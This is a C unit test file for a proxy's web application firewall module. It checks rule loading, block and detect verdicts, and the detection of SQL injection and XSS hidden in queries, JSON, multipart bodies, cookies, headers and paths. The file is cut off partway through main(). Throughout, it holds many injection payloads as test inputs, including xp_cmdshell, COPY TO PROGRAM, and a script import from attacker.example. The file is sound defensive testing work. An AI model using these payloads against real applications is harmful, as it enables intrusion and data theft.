/*
 * test_proxy_waf.c - step 3, the WAF (proxy/waf.c) on its own: opening
 * rule sets and the errors that stop the proxy, the verdict and its
 * reason, detect against block, where values hide (JSON, multipart, path
 * segments, Referer, cookies), the body inspection limit, and one sample
 * per rule of proxy/waf/l7lab.conf so that a rule broken by an edit shows.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "../../proxy/waf.h"
#include "t.h"

/* The proxy's process state P is defined in main.c, which unit tests leave
 * out; this weak stand-in lets the other modules link. */
#include "../../proxy/proxy.h"
__attribute__((weak)) struct proxy P;

static struct waf *l7lab, *crs;

/* A request: method, target, headers as "Name: value" strings (NULL
 * ends), body (NULL: none).  Returns the verdict's action and copies the
 * rule, var and reason into the statics below. */
static unsigned long v_rule;
static char v_var[256], v_reason[512];

static enum waf_action judge_mode(struct waf *w, enum waf_mode mode, const char *method, const char *target,
                                  const char *const *headers, const char *body)
{
	struct waf_tx *tx = waf_tx_new(w, mode, "127.0.0.1", 40000, "127.0.0.2", 8080, "test-1");
	if (tx == NULL)
		return (enum waf_action)-1;
	waf_tx_request(tx, method, target, "1.1");
	for (size_t i = 0; headers && headers[i]; i++) {
		const char *colon = strchr(headers[i], ':');
		waf_tx_header(tx, headers[i], (size_t)(colon - headers[i]), colon + 2, strlen(colon + 2));
	}
	if (body != NULL)
		waf_tx_body(tx, body, strlen(body));
	const struct waf_verdict *v = waf_tx_end(tx);
	enum waf_action a = v->action;
	v_rule = v->rule;
	snprintf(v_var, sizeof(v_var), "%s", v->var);
	snprintf(v_reason, sizeof(v_reason), "%s", v->reason);
	waf_tx_free(tx);
	return a;
}

static enum waf_action judge(struct waf *w, const char *target, const char *const *headers, const char *body)
{
	return judge_mode(w, WAF_BLOCK, body ? "POST" : "GET", target, headers, body);
}

static const char *const plain[] = { "Host: shop.example.com", "User-Agent: Mozilla/5.0", NULL };

/* Writes text to a temporary rule file; returns its malloc'ed path. */
static char *rule_file(const char *text)
{
	char *path = strdup("/tmp/l7lab-waf-test-XXXXXX");
	int fd = mkstemp(path);
	if (fd < 0 || write(fd, text, strlen(text)) != (ssize_t)strlen(text)) {
		perror("rule file");
		exit(1);
	}
	close(fd);
	return path;
}

TEST(an_unknown_rule_set_is_refused_with_one_line_naming_it)
{
	char err[WAF_ERRLEN];
	CHECK(waf_open("nosuch", 1, 1024, err) == NULL);
	CHECK(strstr(err, "'nosuch'") != NULL);
	CHECK(strchr(err, '\n') == NULL);
}

TEST(a_paranoia_level_outside_1_to_4_is_refused)
{
	char err[WAF_ERRLEN];
	CHECK(waf_open("l7lab", 0, 1024, err) == NULL);
	CHECK(strstr(err, "paranoia") != NULL);
	CHECK(waf_open("l7lab", 5, 1024, err) == NULL);
}

TEST(a_rule_file_with_an_error_is_refused_with_its_name_and_line)
{
	char err[WAF_ERRLEN];
	char *path = rule_file("SecRuleEngine On\nSecRule ARGS \"@rx a\" \"id:1,phase:2,deny,nosuchaction\"\n");
	CHECK(waf_open(path, 1, 1024, err) == NULL);
	CHECK(strstr(err, path) != NULL);
	CHECK(strstr(err, "Line: 2") != NULL);
	CHECK(strchr(err, '\n') == NULL);
	unlink(path);
	free(path);
}

TEST(a_missing_rule_file_is_refused_with_the_system_error)
{
	char err[WAF_ERRLEN];
	CHECK(waf_open("/nonexistent/rules.conf", 1, 1024, err) == NULL);
	CHECK_STR(err, "waf: /nonexistent/rules.conf: No such file or directory");
}

TEST(a_rule_set_of_your_own_loads_and_blocks)
{
	char err[WAF_ERRLEN];
	char *path = rule_file("SecRule ARGS \"@streq evil\" \"id:1,phase:2,deny,status:403,msg:'evil in %{MATCHED_VAR_NAME}'\"\n");
	struct waf *w = waf_open(path, 1, 1024, err);
	CHECK(w != NULL);
	if (w != NULL) {
		CHECK(strstr(waf_describe(w), path) != NULL);
		CHECK_INT(judge(w, "/?a=evil", plain, NULL), WAF_BLOCKED);
		CHECK_STR(v_reason, "evil in ARGS:a");
		CHECK_INT(judge(w, "/?a=good", plain, NULL), WAF_PASS);
		waf_close(w);
	}
	unlink(path);
	free(path);
}

TEST(an_sqli_in_the_query_is_blocked_with_rule_variable_and_fingerprint)
{
	CHECK_INT(judge(l7lab, "/item?id=1%27%20or%201%3D1--", plain, NULL), WAF_BLOCKED);
	CHECK_INT(v_rule, 11100);
	CHECK_STR(v_var, "ARGS:id");
	CHECK_STR(v_reason, "SQLi in ARGS:id: libinjection fingerprint s&1c");
}

TEST(detect_mode_finds_the_same_and_says_detect)
{
	CHECK_INT(judge_mode(l7lab, WAF_DETECT, "GET", "/item?id=1%27%20or%201%3D1--", plain, NULL), WAF_DETECTED);
	CHECK_STR(v_reason, "SQLi in ARGS:id: libinjection fingerprint s&1c");
}

TEST(a_search_for_o_brien_passes_with_an_empty_reason)
{
	CHECK_INT(judge(l7lab, "/search?q=Conan+O%27Brien+%22late+night%22", plain, NULL), WAF_PASS);
	CHECK_INT(v_rule, 0);
	CHECK_STR(v_var, "");
	CHECK_STR(v_reason, "");
}

TEST(xss_in_a_form_field_is_blocked)
{
	const char *const h[] = { "Host: x", "Content-Type: application/x-www-form-urlencoded", NULL };
	CHECK_INT(judge(l7lab, "/comment", h, "post=7&text=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"), WAF_BLOCKED);
	CHECK_STR(v_reason, "XSS in ARGS:text: libinjection");
}

TEST(a_json_member_deep_in_the_body_is_inspected)
{
	const char *const h[] = { "Host: x", "Content-Type: application/json; charset=utf-8", NULL };
	CHECK_INT(judge(l7lab, "/api", h, "{\"user\":{\"tags\":[\"a\",\"<script>alert(1)</script>\"]}}"), WAF_BLOCKED);
	CHECK_STR(v_var, "ARGS:json.user.tags.array_1");
}

TEST(json_unicode_escapes_do_not_hide_an_injection)
{
	const char *const h[] = { "Host: x", "Content-Type: application/json", NULL };
	CHECK_INT(judge(l7lab, "/api", h, "{\"q\":\"\\u0027 or \\u00271\\u0027=\\u00271\"}"), WAF_BLOCKED);
	CHECK_STR(v_var, "ARGS:json.q");
}

TEST(a_body_that_is_not_the_json_it_claims_is_inspected_whole)
{
	const char *const h[] = { "Host: x", "Content-Type: application/json", NULL };
	CHECK_INT(judge(l7lab, "/api", h, "q=1' union select password from users--"), WAF_BLOCKED);
	CHECK_STR(v_var, "TX:l7_body");
}

TEST(a_multipart_field_is_inspected)
{
	const char *const h[] = { "Host: x", "Content-Type: multipart/form-data; boundary=XyZ", NULL };
	CHECK_INT(judge(l7lab, "/upload", h,
	                "--XyZ\r\nContent-Disposition: form-data; name=\"caption\"\r\n\r\n"
	                "\"><svg onload=alert(1)>\r\n--XyZ--\r\n"), WAF_BLOCKED);
	CHECK_STR(v_var, "ARGS:caption");
}

TEST(a_cookie_is_url_decoded_and_inspected)
{
	const char *const h[] = { "Host: x", "Cookie: sid=abc; pref=1%27%20AND%20SLEEP(5)--", NULL };
	CHECK_INT(judge(l7lab, "/", h, NULL), WAF_BLOCKED);
	CHECK_STR(v_var, "REQUEST_COOKIES:pref");
}

TEST(a_path_segment_is_inspected_with_its_encoded_slash_kept)
{
	CHECK_INT(judge(l7lab, "/users/%3Cscript%3Ealert(1)%3C%2Fscript%3E/profile", plain, NULL), WAF_BLOCKED);
	CHECK_INT(judge(l7lab, "/api/v1/orders/1%27%20or%20%271%27%3D%271/items", plain, NULL), WAF_BLOCKED);
	CHECK_STR(v_var, "TX:l7_path_4");
	CHECK_INT(judge(l7lab, "/wiki/Guns_N%27_Roses", plain, NULL), WAF_PASS);
}

TEST(a_double_encoded_value_is_decoded_twice)
{
	CHECK_INT(judge(l7lab, "/go?next=%253Cscript%253Ealert(1)%253C%252Fscript%253E", plain, NULL), WAF_BLOCKED);
	CHECK_STR(v_var, "ARGS:next");
}

TEST(a_value_in_the_referer_query_is_inspected)
{
	const char *const h[] = { "Host: x", "Referer: https://www.example.com/?lang=en&q=1%20or%201%3D1--", NULL };
	CHECK_INT(judge(l7lab, "/", h, NULL), WAF_BLOCKED);
	CHECK_STR(v_var, "TX:l7_referer_2");
}

TEST(prose_with_and_between_numbers_passes)
{
	CHECK_INT(judge(l7lab, "/search?q=80%25+cotton+and+20%25+polyester", plain, NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/search?q=%22red%22+AND+%22large%22", plain, NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/search?q=cos(0)+%3D+1", plain, NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/search?q=if+(a+%3C+b+%26%26+c+%3E+d)+%7B+return+true%3B+%7D", plain, NULL), WAF_PASS);
}

TEST(sql_words_in_prose_and_markdown_links_pass_but_not_sql_grammar)
{
	/* "Safari; on Chrome": a separator, but no SQL after it */
	CHECK_INT(judge(l7lab, "/search?q=The+%22not%22+option+doesn%27t+work+on+Safari%3B+on+Chrome+it%27s+fine.", plain, NULL),
	          WAF_PASS);
	CHECK_INT(judge(l7lab, "/search?q=%22select+all%22+-null", plain, NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/search?q=%22select+all%22+union+select+null--", plain, NULL), WAF_BLOCKED);
	CHECK_INT(judge(l7lab, "/search?q=%21%5Bshot%5D(https%3A%2F%2Fexample.com%2Fonline%3Fref%3Dhome)", plain, NULL),
	          WAF_PASS);
	CHECK_INT(judge(l7lab, "/search?q=x+onmouseover%3Dalert(1)", plain, NULL), WAF_BLOCKED);
	CHECK_INT(judge(l7lab, "/search?q=x%2Fonmouseover%3Dalert(1)", plain, NULL), WAF_BLOCKED);
	/* a query string of plain values passed on in a value */
	CHECK_INT(judge(l7lab, "/go?next=%2Fsearch%3Fsubmit%3D%26q%3D%2522MOD%2522%26view%3Dgallery", plain, NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/go?next=%2Fsearch%3Fq%3D1%2527%2520or%2520%25271%2527%253D%25271", plain, NULL), WAF_BLOCKED);
}

TEST(rich_text_with_inline_styles_passes_but_not_with_script_in_it)
{
	const char *const h[] = { "Host: x", "Content-Type: application/x-www-form-urlencoded", NULL };
	CHECK_INT(judge(l7lab, "/page", h,
	                "body=%3Cp+style%3D%22text-align%3A+center%3B%22%3EWe%27ve+moved%21%3C%2Fp%3E"
	                "%3Cspan+style%3D%22color%3A+%23c00%22%3E50%25+off%3C%2Fspan%3E"), WAF_PASS);
	CHECK_INT(judge(l7lab, "/page", h, "body=%3Cp+style%3D%22color%3Ared%22+onclick%3Dalert(1)%3Ehi%3C%2Fp%3E"),
	          WAF_BLOCKED);
	CHECK_INT(judge(l7lab, "/page", h, "body=%3Cdiv+style%3D%22x%3Aexpr%2F**%2Fession(alert(1))%22%3E"), WAF_BLOCKED);
	CHECK_INT(judge(l7lab, "/page", h, "body=%3Cp+style%3D%22color%3Ared%22%3Ehi%3C%2Fp%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
	          WAF_BLOCKED);
	CHECK_INT(judge(l7lab, "/page", h, "body=%22+onmouseover%3D%22alert(1)%22+%3Cp+style%3D%22color%3Ared%22%3Ex%3C%2Fp%3E"),
	          WAF_BLOCKED);
}

/* Round 3 (proxy/waf.md): words and markup that only look like SQL or script. */
TEST(compounds_languages_lists_and_quoted_attributes_pass_but_not_the_code_they_resemble)
{
	CHECK_INT(judge(l7lab, "/search?q=iPhone+15+Pro+(256GB)%3B+drop-leaf+table", plain, NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/search?q=1)%3B+drop+table+users--", plain, NULL), WAF_BLOCKED);
	CHECK_INT(judge(l7lab, "/shop?q=orderby%3Dmenu_order+title%26order%3DASC", plain, NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/search?q=+or+x%3D1--", plain, NULL), WAF_BLOCKED);
	CHECK_INT(judge(l7lab, "/search?q=null+and+void+c%23", plain, NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/search?q=1%27+or+1%3D1+%23", plain, NULL), WAF_BLOCKED);
	CHECK_INT(judge(l7lab, "/forum?post=%5Blist%5D%5B*%5D3%2F4+sleeve+top%5B*%5Dkids%27+rain+boots%5B%2Flist%5D", plain, NULL),
	          WAF_PASS);
	CHECK_INT(judge(l7lab, "/forum?post=self%5B%27ale%27%2B%27rt%27%5D(1)", plain, NULL), WAF_BLOCKED);
	const char *const h[] = { "Host: x", "Content-Type: application/x-www-form-urlencoded", NULL };
	CHECK_INT(judge(l7lab, "/mail", h,
	                "sig=%3Cimg+src%3D%22%2Flogo.png%22+alt%3D%22Toys+%26quot%3BR%26quot%3B+Us%22+style%3D%22width%3A80px%22%3E"
	                "%3Cp+style%3D%22font-family%3A%26quot%3BCalibri%26quot%3B%2Csans-serif%22%3EAnn%3C%2Fp%3E"), WAF_PASS);
	CHECK_INT(judge(l7lab, "/mail", h,
	                "sig=%3Cimg+src%3D%22%2Flogo.png%22+alt%3D%22x%22+style%3D%22width%3A80px%22+%22onerror%3Dalert(1)%22%3E"),
	          WAF_BLOCKED);
}

/* Round 4 (proxy/waf.md): code that runs a string, not code that calls a function. */
TEST(script_code_passes_but_not_code_that_runs_a_string_or_passes_a_dialog)
{
	CHECK_INT(judge(l7lab, "/forum?post=setTimeout(()+%3D%3E+save()%2C+500)", plain, NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/forum?post=const+m+%3D+await+import(%27.%2Fcart.js%27)", plain, NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/forum?post=items.find(x+%3D%3E+x.id+%3D%3D%3D+id)", plain, NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/forum?post=setTimeout(%27alert(1)%27)", plain, NULL), WAF_BLOCKED);
	CHECK_INT(judge(l7lab, "/forum?post=import(%27https%3A%2F%2Fattacker.example%2Fx.js%27)", plain, NULL), WAF_BLOCKED);
	CHECK_INT(judge(l7lab, "/forum?post=%5B1%5D.find(alert)", plain, NULL), WAF_BLOCKED);
}

/* Round 5 (proxy/waf.md): signatures, words, JSON, search syntax and
 * entities that only look like SQL; the SQL they resemble is still found. */
TEST(signatures_search_syntax_json_and_entities_pass_but_not_the_sql_they_resemble)
{
	const char *const sig[] = { "Host: x", "Signature-Input: sig1=(\"@method\" \"@authority\");created=1700000000;keyid=\"k1\"",
		                    NULL };
	CHECK_INT(judge(l7lab, "/api/v1/messages", sig, NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/search?q=Having+fun%3F+Select+%22like%22+and+share%21", plain, NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/search?q=select+from+our+range+of+sofas", plain, NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/search?q=id+having+%281+or+1%29", plain, NULL), WAF_BLOCKED);
	CHECK_INT(judge(l7lab, "/settings?theme=%7B%22primary%22%3A%22%231e88e5%22%2C%22secondary%22%3A%22%23ffb300%22%7D",
	                plain, NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/settings?theme=%7B%22a%22%3A%221%27+or+%271%27%3D%271%22%7D", plain, NULL), WAF_BLOCKED);
	CHECK_INT(judge(l7lab, "/search?q=title%3A%22a+column%22+AND+NOT+null", plain, NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/search?q=title%3A%28select+OR+%22drop+down%22%29+AND+color%3Ared", plain, NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/search?q=1+in+%28select+password+from+users%29", plain, NULL), WAF_BLOCKED);
	CHECK_INT(judge(l7lab, "/search?q=The+page+title+shows+%22%26lt%3Bb%26gt%3BSale%26lt%3B%2Fb%26gt%3B%22+with+the+tags.",
	                plain, NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/search?q=x%27%26%261%3D1", plain, NULL), WAF_BLOCKED);
}

/* Round 6 (proxy/waf.md): Outlook's namespaced tags, a path segment with
 * an encoded "?", search negation, a tag's attributes and CSS rules; the
 * script and SQL they resemble are still found. */
TEST(mail_paths_negation_attributes_and_css_pass_but_not_the_attacks_they_resemble)
{
	const char *const h[] = { "Host: x", "Content-Type: application/x-www-form-urlencoded", NULL };
	CHECK_INT(judge(l7lab, "/mail", h,
	                "body=%3Cp+class%3D%22MsoNormal%22%3E%3Cspan+style%3D%22font-size%3A11.0pt%22%3EHi+Ann%21"
	                "%3Co%3Ap%3E%3C%2Fo%3Ap%3E%3C%2Fspan%3E%3C%2Fp%3E"), WAF_PASS);
	CHECK_INT(judge(l7lab, "/mail", h,
	                "body=%3Cp+style%3D%22color%3Ared%22%3Ex%3Co%3Ap+onclick%3Dalert(1)%3E%3C%2Fo%3Ap%3E%3C%2Fp%3E"),
	          WAF_BLOCKED);
	CHECK_INT(judge(l7lab, "/mail", h,
	                "body=%3Cp+style%3D%22color%3Ared%22%3Ex%3Co%3Ascript%3Ealert(1)%3C%2Fo%3Ascript%3E%3C%2Fp%3E"),
	          WAF_BLOCKED);
	/* a path segment holding a link with an encoded "?": the whole path is read */
	CHECK_INT(judge(l7lab,
	                "/users/%3Cp%20style%3D%22color%3A%23999%22%3E%3Ca%20href%3D%22https%3A%2F%2Fmail.example.com"
	                "%2Fu%3Fid%3D1f0e%22%3Eunsubscribe%3C%2Fa%3E%3C%2Fp%3E/profile", plain, NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/users/%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E%3Fx/profile", plain, NULL), WAF_BLOCKED);
	CHECK_INT(judge(l7lab, "/api/v1/orders/%25253Cscript%25253Ealert%281%29%25253C%25252Fscript%25253E", plain, NULL),
	          WAF_BLOCKED);
	/* search negation, a tag's attribute, CSS rules */
	CHECK_INT(judge(l7lab, "/search?q=linen+-select+-%22like+not%22", plain, NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/search?q=x%27+-%271", plain, NULL), WAF_BLOCKED);
	CHECK_INT(judge(l7lab, "/wiki?text=%3Cref+name%3D%22like%22%3EAnn+Lee+(2019).+%27%27either%2For%27%27.+p.+42.%3C%2Fref%3E",
	                plain, NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/wiki?text=%3Ca+title%3D%22x%27+or+1%3D1+--%22%3E", plain, NULL), WAF_BLOCKED);
	CHECK_INT(judge(l7lab, "/settings?css=li%3Anot(%3Alast-child)%3A%3Aafter+%7B+content%3A+%22+%7C+%22%3B+%7D", plain,
	                NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/settings?css=x+%7B+content%3A+%22%27+or+%271%27%3D%271%22%3B+%7D", plain, NULL), WAF_BLOCKED);
}

/* Round 7 (proxy/waf.md): SQL quoted in a line of code, a quoted
 * anchored regular expression, a SELECT cut before its condition, a
 * JavaScript default; the SQL each resembles is still found. */
TEST(code_regexes_cut_selects_and_defaults_pass_but_not_the_sql_they_resemble)
{
	/* step 32: an SQL statement in a double-quoted string of a call or an assignment */
	CHECK_INT(judge(l7lab, "/search?q=cursor.execute(%22SELECT+%2A+FROM+t+WHERE+id+%3D+%25s%22%2C+(id%2C))", plain, NULL),
	          WAF_PASS);
	CHECK_INT(judge(l7lab, "/search?q=%24sql+%3D+%22SELECT+%2A+FROM+users+WHERE+id+%3D+%3F%22%3B", plain, NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/search?q=1%22+UNION+SELECT+password+FROM+users+WHERE+id+%3D+%221", plain, NULL), WAF_BLOCKED);
	CHECK_INT(judge(l7lab, "/search?q=%24sql+%3D+%22SELECT+%2A+FROM+t+WHERE+a+%3D+%27+or+%271%27%3D%271%22%3B", plain, NULL),
	          WAF_BLOCKED);
	CHECK_INT(judge(l7lab, "/search?q=if(%22select+x+from+t%22%2C+sleep(5)%2C+0)", plain, NULL), WAF_BLOCKED);
	/* step 33: '^...$' is a regular expression, not a quote before an XOR */
	CHECK_INT(judge(l7lab, "/search?q=grep+-E+%27%5E(foo%7Cbar)%24%27+file", plain, NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/search?q=1%27%5E(select+sleep(5))%5E%271", plain, NULL), WAF_BLOCKED);
	CHECK_INT(judge(l7lab, "/search?q=x%27%5E(select+1)%3D%271", plain, NULL), WAF_BLOCKED);
	/* step 35: a SELECT of plain words cut at WHERE cannot run */
	CHECK_INT(judge(l7lab, "/search?q=select+x+from+y+where", plain, NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/search?q=select+x+from+y+where+1%3D1", plain, NULL), WAF_BLOCKED);
	CHECK_INT(judge(l7lab, "/search?q=1+union+select+x+from+y+where", plain, NULL), WAF_BLOCKED);
	/* step 36: a default that is a word, which SQL reads as false */
	CHECK_INT(judge(l7lab, "/search?q=obj.a+%3D+obj.b+%7C%7C+%27default%27%3B", plain, NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/search?q=obj.a+%3D+obj.b+%7C%7C+%271%27%3B", plain, NULL), WAF_BLOCKED);
	CHECK_INT(judge(l7lab, "/search?q=x+%3D+y+%7C%7C+%27a%27+or+1%3D1%3B", plain, NULL), WAF_BLOCKED);
}

TEST(links_math_and_numbers_in_prose_pass)
{
	CHECK_INT(judge(l7lab, "/go?next=https%3A%2F%2Fexample.com%2Fonline%3Fref%3Dhome", plain, NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/go?next=%2Fonboarding%3Fstep%3D2", plain, NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/go?next=http%3A%2F%2Fx%2F%3Fa%3D1%2Bonmouseover%3Dalert(1)", plain, NULL), WAF_BLOCKED);
	CHECK_INT(judge(l7lab, "/search?q=sin(x)%5E2+%2B+cos(x)%5E2+%3D+1", plain, NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/search?q=00+AND+3", plain, NULL), WAF_PASS);
	CHECK_INT(judge(l7lab, "/search?q=Version+2.1+fixes+the+crash+on+startup%3B+update+from+the+settings+page.",
	                plain, NULL), WAF_PASS);
}

/* One sample per rule of l7lab.conf: a rule an edit breaks (a regex
 * ModSecurity silently fails to compile) shows here. */
TEST(every_l7lab_rule_blocks_its_sample)
{
	static const struct { const char *target; unsigned long rule; } samples[] = {
		{ "/?q=1%27%20or%20%271%27%3D%271", 11100 },
		{ "/?q=%20UNION%20ALL%20SELECT%20%27INJ%27%7C%7C%27ECT%27,2", 11110 },
		{ "/?q=%20ORDER%20BY%203--%20", 11110 },
		{ "/?q=1%20and%20%60id%60%3D1", 11110 },
		{ "/?q=%27%3B%20COPY%20x%20TO%20PROGRAM%20%27id%27--", 11110 },
		{ "/?q=exec%20master..xp_cmdshell%20%27ping%20x%27", 11110 },
		{ "/?q=x%27%20and%20not%20true", 11120 },
		{ "/?q=1%20and%20not%20false", 11120 },
		{ "/?q=1%20and%201", 11120 },
		{ "/?q=1%20WHERE%201%3D1", 11120 },
		{ "/?q=AND%20ISNULL(1%2F0)", 11120 },
		{ "/?q=case%201%20when%202%20then%202%20end", 11120 },
		{ "/?q=1%20LIMIT%201%20INTO%20%40%2C%40", 11120 },
		{ "/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", 11200 },
		{ "/?q=%27%3Balert(1)%3B%2F%2F", 11210 },
		{ "/?q=%7B%7Bconstructor.constructor(%27alert(1)%27)()%7D%7D", 11210 },
		{ "/?q=%3Cx%20%27%3D%22foo%22%3E%3Cx%20foo%3D%27%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%2F%2F%27%3E", 11210 },
		{ "/?q=%3Cimg%20src%3D%271%27%20onerror%2F%3Dalert(0)%20%2F%3E", 11210 },
		{ "/?q=%3CIMG%20SRC%3D%22jav%26%23x0D%3Bascript%3Aalert(1)%3B%22%3E", 11210 },
		{ "/?q=java%250ascript:alert(1)", 11210 },
		{ "/?q=data:text%2Fhtml%3Bbase64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D", 11210 },
		{ "/?q=%3Ca%20href%3D%22javascript%26colon%3Balert(1)%22%3Ex%3C%2Fa%3E", 11200 },
		{ "/?q=%2BADw-script%2BAD4-alert(1)%2BADw-%2Fscript%2BAD4-", 11210 },
		{ "/?q=%3Cx%20v-on%3Aclick%3D%22alert(1)%22%3Ex%3C%2Fx%3E", 11210 },
		{ "/?q=%3Cscrscriptipt%3Ealert(1)%3C%2Fscrscriptipt%3E", 11210 },
		{ "/?q=see%20javascript:alert(document.domain)", 941170 },
		{ "/?q=window%5B%22alert%22%5D(document%5B%22cookie%22%5D)", 11220 },
		{ "/?q=top%5B%2Fal%2F.source%2B%2Fert%2F.source%5D(1)", 11220 },
		{ "/?q=eval(atob(%27YWxlcnQoMSk%3D%27))", 11240 },
		{ "/?q=%5B%5D.constructor.constructor(%27alert(1)%27)()", 11240 },
		{ "/?q=alert.call(null%2C1)", 11240 },
		{ "/?q=(!%5B%5D%2B%5B%5D)%5B%2B!%2B%5B%5D%5D", 941360 },
	};
	for (size_t i = 0; i < sizeof(samples) / sizeof(samples[0]); i++) {
		enum waf_action a = judge(l7lab, samples[i].target, plain, NULL);
		if (a != WAF_BLOCKED || v_rule != samples[i].rule)
			printf("#   %s: action %d, rule %lu (%s), want rule %lu\n", samples[i].target, a, v_rule,
			       v_reason, samples[i].rule);
		CHECK(a == WAF_BLOCKED && v_rule == samples[i].rule);
	}
}

TEST(other_headers_are_inspected_but_not_structured_ones)
{
	const char *const h[] = { "Host: x", "X-Api-Filter: 1' or '1'='1", NULL };
	CHECK_INT(judge(l7lab, "/", h, NULL), WAF_BLOCKED);
	CHECK_STR(v_var, "TX:l7_header_REQUEST_HEADERS:X-Api-Filter");
	const char *const ok[] = { "Host: x", "sec-ch-ua: \"Chromium\";v=\"124\", \"Not-A.Brand\";v=\"99\"",
		                   "If-None-Match: W/\"1' or '1'='1\"", "X-Note: O'Brien's order, 36\" x 48\"", NULL };
	CHECK_INT(judge(l7lab, "/", ok, NULL), WAF_PASS);
}

TEST(paranoia_2_also_inspects_unparsed_bodies)
{
	char err[WAF_ERRLEN];
	struct waf *pl2 = waf_open("l7lab", 2, 64 * 1024, err);
	CHECK(pl2 != NULL);
	if (pl2 != NULL) {
		const char *const text[] = { "Host: x", "Content-Type: text/plain", NULL };
		CHECK_INT(judge(l7lab, "/notes", text, "q=1' or 1=1--"), WAF_PASS);
		CHECK_INT(judge(pl2, "/notes", text, "q=1' or 1=1--"), WAF_BLOCKED);
		CHECK_STR(v_var, "TX:l7_body");
		waf_close(pl2);
	}
}

TEST(the_body_is_inspected_up_to_the_limit_and_no_further)
{
	char err[WAF_ERRLEN];
	struct waf *w = waf_open("l7lab", 1, 16, err);
	CHECK(w != NULL);
	if (w == NULL)
		return;
	const char *attack = "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E";
	struct waf_tx *tx = waf_tx_new(w, WAF_BLOCK, "127.0.0.1", 1, "127.0.0.2", 2, NULL);
	waf_tx_request(tx, "POST", "/c", "1.1");
	waf_tx_header(tx, "Content-Type", 12, "application/x-www-form-urlencoded", 33);
	CHECK(waf_tx_body(tx, "padding=0123456", 15));          /* 15 of 16 bytes: more wanted */
	CHECK(!waf_tx_body(tx, "&", 1));                        /* 16: the window is full */
	CHECK(!waf_tx_body(tx, attack, strlen(attack)));        /* beyond it: not looked at */
	CHECK_INT(waf_tx_end(tx)->action, WAF_PASS);
	waf_tx_free(tx);

	tx = waf_tx_new(w, WAF_BLOCK, "127.0.0.1", 1, "127.0.0.2", 2, NULL);
	waf_tx_request(tx, "POST", "/c", "1.1");
	waf_tx_header(tx, "Content-Type", 12, "application/x-www-form-urlencoded", 33);
	CHECK(!waf_tx_body(tx, "q=%3Cscript%3Ealert(1)", 21)); /* the first 16 bytes are enough */
	CHECK_INT(waf_tx_end(tx)->action, WAF_BLOCKED);
	waf_tx_free(tx);
	waf_close(w);
}

TEST(the_verdict_does_not_change_when_asked_again)
{
	struct waf_tx *tx = waf_tx_new(l7lab, WAF_BLOCK, "::1", 1, "::1", 2, NULL);
	waf_tx_request(tx, "GET", "/?q=%27%20or%20%27a%27%3D%27a", "1.1");
	const struct waf_verdict *v1 = waf_tx_end(tx);
	const struct waf_verdict *v2 = waf_tx_end(tx);
	CHECK(v1 == v2);
	CHECK_INT(v2->action, WAF_BLOCKED);
	CHECK(!waf_tx_body(tx, "x", 1));
	waf_tx_free(tx);
}

TEST(crs_names_the_attack_rule_not_the_anomaly_score_rule)
{
	CHECK_INT(judge(crs, "/item?id=1%27%20or%201%3D1--", plain, NULL), WAF_BLOCKED);
	CHECK_INT(v_rule, 942100);
	CHECK_STR(v_var, "ARGS:id");
	CHECK_STR(v_reason, "SQL Injection Attack Detected via libinjection in ARGS:id");
}

TEST(crs_passes_a_plain_request)
{
	CHECK_INT(judge(crs, "/search?q=shoes&page=2", plain, NULL), WAF_PASS);
}

TEST(names_of_modes_and_actions)
{
	CHECK_STR(waf_mode_name(WAF_OFF), "off");
	CHECK_STR(waf_mode_name(WAF_DETECT), "detect");
	CHECK_STR(waf_mode_name(WAF_BLOCK), "block");
	CHECK_STR(waf_action_name(WAF_PASS), "pass");
	CHECK_STR(waf_action_name(WAF_DETECTED), "detect");
	CHECK_STR(waf_action_name(WAF_BLOCKED), "block");
}

int main(void)
{
	char err[WAF_ERRLEN];
	l7lab = waf_open("l7lab", 1, 64 * 1024, err);
	if (l7lab == NULL) {
		printf("Bail out! %s\n", err);
		return 1;
	}
	crs = waf_open("crs", 1, 64 * 1024, err);
	if (crs == NULL) {
		printf("Bail out! %s\n", err);
		return 1;
	}
	RUN(an_unknown_rule_set_is_refused_with_one_line_naming_it);
	RUN(a_paranoia_level_outside_1_to_4_is_refused);
	RUN(a_rule_file_with_an_error_is_refused_with_its_name_and_line);
	RUN(a_missing_rule_file_is_refused_with_the_system_error);
	RUN(a_rule_set_of_your_own_loads_and_blocks);
	RUN(an_sqli_in_the_query_is_blocked_with_rule_variable_and_fingerprint);
	RUN(detect_mode_finds_the_same_and_says_detect);
	RUN(a_search_for_o_brien_passes_with_an_empty_reason);
